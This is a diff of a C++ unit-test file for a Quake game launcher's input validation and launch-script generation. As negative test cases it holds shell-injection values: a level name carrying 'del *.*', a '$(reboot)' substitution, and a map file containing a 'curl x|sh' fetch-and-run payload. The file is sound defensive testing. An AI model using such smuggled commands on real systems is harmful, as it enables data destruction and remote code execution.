@@ -15,6 +15,14 @@ LaunchChoices Choices(std::string engine, std::string mapSelection, std::string 
           std::move(quakeDir)};
 }
 
+// The message that refuses a launch; empty when the launch may go ahead.
+std::string Refusal(const LaunchChoices& choices, ScriptFlavour flavour) {
+  return CheckLaunch(choices, flavour).reason();
+}
+
+// Why a level name may not reach the launch script; empty when it may.
+std::string LevelProblem(const std::string& level) { return CheckLevelName(level).reason(); }
+
 TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
   // The documented example.
   EXPECT_EQ(EngineCommandLine(Choices("GLQuake.exe", "castle", "e1m1", "")),
@@ -69,15 +77,15 @@ TEST(LaunchScript, LinuxQuotesTheDirectoryAndRunsALocalEngineFromIt) {
   EXPECT_FALSE(IsBareFileName(".."));
 }
 
-TEST(LevelName, AcceptsPlainNamesWithTrailingSpaces) {
+TEST(CheckLevelName, AcceptsPlainNamesWithTrailingSpaces) {
   for (const std::string& level :
        std::vector<std::string>{"", "e1m1", "E1M1", "start", "kv_castle-2.b", "maps/e1m1",
                                 "e1m1   ", std::string(64, 'a'), std::string(64, 'a') + "  "}) {
-    EXPECT_EQ(LevelNameProblem(level), "") << level;
+    EXPECT_EQ(LevelProblem(level), "") << level;
   }
 }
 
-TEST(LevelName, RefusesAnythingAShellCouldReadAsMore) {
+TEST(CheckLevelName, RefusesAnythingAShellCouldReadAsMore) {
   const struct {
     std::string level;
     std::string why;
@@ -103,13 +111,13 @@ TEST(LevelName, RefusesAnythingAShellCouldReadAsMore) {
       {"   ", "it consists of spaces only"},
       {std::string(65, 'a'), "it is longer than 64 characters"},
   };
-  for (const auto& c : cases) EXPECT_EQ(LevelNameProblem(c.level), c.why) << c.level;
+  for (const auto& c : cases) EXPECT_EQ(LevelProblem(c.level), c.why) << c.level;
 }
 
-TEST(LaunchRefusal, QuakeDirectoryMustBeSet) {
+TEST(CheckLaunch, QuakeDirectoryMustBeSet) {
   for (ScriptFlavour flavour : {ScriptFlavour::Windows, ScriptFlavour::Linux}) {
     for (const char* dir : {"", "C"}) {
-      const std::string refusal = LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
+      const std::string refusal = Refusal(Choices("LucidGL.exe", "", "", "", dir), flavour);
       EXPECT_NE(refusal.find("Set it first with \"Set Quake Directory\" in the Tools menu."),
                 std::string::npos)
           << refusal;
@@ -118,49 +126,48 @@ TEST(LaunchRefusal, QuakeDirectoryMustBeSet) {
   // On Windows the first line would otherwise run whatever its first two characters name.
   for (const char* dir : {"Quake", "\\\\server\\quake", "1:\\Quake", "&:\\x"}) {
     const std::string refusal =
-        LaunchRefusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
+        Refusal(Choices("LucidGL.exe", "", "", "", dir), ScriptFlavour::Windows);
     EXPECT_NE(refusal.find("drive letter"), std::string::npos) << dir;
     EXPECT_NE(refusal.find(dir), std::string::npos) << dir;
   }
-  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
-  EXPECT_EQ(LaunchRefusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
+  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "D:"), ScriptFlavour::Windows), "");
+  EXPECT_EQ(Refusal(Choices("Quake.exe", "", "", "", "quake"), ScriptFlavour::Linux), "");
 }
 
-TEST(LaunchRefusal, NoValueMayAddALine) {
+TEST(CheckLaunch, NoValueMayAddALine) {
   for (const std::string& bad : std::vector<std::string>{"a\rb", "a\nb", std::string("a\0b", 3)}) {
     LaunchChoices engine = Choices(bad, "", "", "");
     LaunchChoices params = Choices("Quake.exe", "", "", "+skill 1" + bad);
     LaunchChoices dir = Choices("Quake.exe", "", "", "", "C:\\Quake" + bad);
-    EXPECT_NE(LaunchRefusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
+    EXPECT_NE(Refusal(engine, ScriptFlavour::Windows).find("the engine text holds a line"),
               std::string::npos);
-    EXPECT_NE(LaunchRefusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
+    EXPECT_NE(Refusal(params, ScriptFlavour::Linux).find("the custom parameters text"),
               std::string::npos);
-    EXPECT_NE(LaunchRefusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
+    EXPECT_NE(Refusal(dir, ScriptFlavour::Windows).find("the Quake directory text"),
               std::string::npos);
   }
 }
 
-TEST(LaunchRefusal, NamesTheMapOfABadOrFailedLevel) {
+TEST(CheckLaunch, NamesTheMapOfABadOrFailedLevel) {
   LaunchChoices bad = Choices("Quake.exe", "castle", "e1m1 & del *.*", "");
-  EXPECT_EQ(LaunchRefusal(bad, ScriptFlavour::Windows),
+  EXPECT_EQ(Refusal(bad, ScriptFlavour::Windows),
             "The game was not started: the map \"castle\" has the level name \"e1m1 & del *.*\", "
             "which is not a plain level name: it holds a space. Only level names of letters, "
             "digits and _ - . / are passed to the game.");
   // Control bytes and overlong names are not put into the message as they are.
   bad.mapLevel = "e1m1\x1b[2J" + std::string(200, 'x');
-  const std::string refusal = LaunchRefusal(bad, ScriptFlavour::Linux);
+  const std::string refusal = Refusal(bad, ScriptFlavour::Linux);
   EXPECT_EQ(refusal.find('\x1b'), std::string::npos);
   EXPECT_LT(refusal.size(), 300u);
 
   LaunchChoices failed = Choices("Quake.exe", "ruins", "", "");
   failed.mapLoadFailed = true;
-  EXPECT_NE(
-      LaunchRefusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
-      std::string::npos);
+  EXPECT_NE(Refusal(failed, ScriptFlavour::Linux).find("the map \"ruins\" could not be loaded"),
+            std::string::npos);
   // Without a selected map neither the level nor an old failure matters.
   failed.mapSelection.clear();
   failed.mapLevel = "$(reboot)";
-  EXPECT_EQ(LaunchRefusal(failed, ScriptFlavour::Linux), "");
+  EXPECT_EQ(Refusal(failed, ScriptFlavour::Linux), "");
 }
 
 // StartGame over a temporary application directory: the native flavour only.
@@ -188,9 +195,9 @@ struct StartGameTest : ::testing::Test {
 };
 
 TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
-  f.launcher.RunCommand("map castle");
-  f.launcher.RunCommand("cpar +skill 2");
-  EXPECT_FALSE(f.launcher.StartGame());
+  f.Run("map castle");
+  f.Run("cpar +skill 2");
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(f.platform.started, std::vector<std::string>{ScriptPath()});
   EXPECT_TRUE(f.platform.errors.empty());
   EXPECT_EQ(Script(), ExpectedScript("LucidGL.exe +map e1m1 -game kv +skill 2 +r_shadows 0 "
@@ -203,7 +210,7 @@ TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
   // Every launch writes the script anew and starts another game.
   f.state.SetText(TextField::EngineText, "WinQuake.exe");
   f.state.SetText(TextField::MapSelection, "");
-  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(f.platform.started.size(), 2u);
   EXPECT_EQ(Script(), ExpectedScript("WinQuake.exe -game kv +skill 2 "));
   // No temporary file is left behind.
@@ -211,10 +218,10 @@ TEST_F(StartGameTest, WritesTheScriptAndStartsIt) {
 }
 
 TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
-  f.launcher.RunCommand("map castle");
+  f.Run("map castle");
   f.state.SetText(TextField::MapSelection, "somewhere else");
   f.state.SetText(TextField::EngineText, "Quake.exe");
-  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(Script(), ExpectedScript("Quake.exe +map e1m1 -game kv "));
 }
 
@@ -223,21 +230,21 @@ TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
   f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
   f.dir.Write("data/broken.kvx", "only one line\r\n");
 
-  f.launcher.RunCommand("map evil");
+  f.Run("map evil");
   f.platform.errors.clear();
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   ASSERT_EQ(f.platform.errors.size(), 1u);
   EXPECT_NE(f.platform.errors[0].find("the map \"evil\""), std::string::npos);
 
-  f.launcher.RunCommand("map broken");
+  f.Run("map broken");
   f.platform.errors.clear();
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   ASSERT_EQ(f.platform.errors.size(), 1u);
   EXPECT_NE(f.platform.errors[0].find("the map \"broken\" could not be loaded"), std::string::npos);
 
-  f.launcher.RunCommand("map castle");
+  f.Run("map castle");
   f.state.SetText(TextField::QuakeDir, "");
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   EXPECT_NE(f.platform.errors.back().find("\"Set Quake Directory\" in the Tools menu"),
             std::string::npos);
 
@@ -251,7 +258,7 @@ TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
   FakePlatform platform;
   Launcher launcher(f.dir.File("file"), platform);
   launcher.State().SetText(TextField::QuakeDir, quakeDir);
-  EXPECT_TRUE(launcher.StartGame());
+  EXPECT_TRUE(launcher.StartGame().failed());
   ASSERT_EQ(platform.errors.size(), 1u);
   EXPECT_EQ(
       platform.errors[0].rfind("Could not write the launch script \"" + f.dir.File("file"), 0), 0u)
@@ -260,7 +267,7 @@ TEST_F(StartGameTest, WriteAndStartFailuresAreShownWithTheReason) {
   EXPECT_TRUE(platform.started.empty());
 
   f.platform.startAnswer = "no shell here";
-  EXPECT_TRUE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().failed());
   EXPECT_EQ(f.platform.errors, std::vector<std::string>{"Could not start the launch script \"" +
                                                         ScriptPath() + "\": no shell here."});
 }
@@ -270,12 +277,12 @@ TEST_F(StartGameTest, LinuxRunsAnEngineFoundInTheQuakeDirectoryFromThere) {
   TempDir quake;
   quake.Write("LucidGL.exe", "");
   f.state.SetText(TextField::QuakeDir, quake.Path());
-  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(Script(), LinuxLaunchScript(Choices("LucidGL.exe", "", "", "", quake.Path()), true));
   // A directory of the engine's name is not an engine.
   f.state.SetText(TextField::EngineText, "kv");
   quake.Write("kv/pak0.pak", "");
-  EXPECT_FALSE(f.launcher.StartGame());
+  EXPECT_TRUE(f.launcher.StartGame().ok());
   EXPECT_EQ(Script(), LinuxLaunchScript(Choices("kv", "", "", "", quake.Path()), false));
 }
 #endif
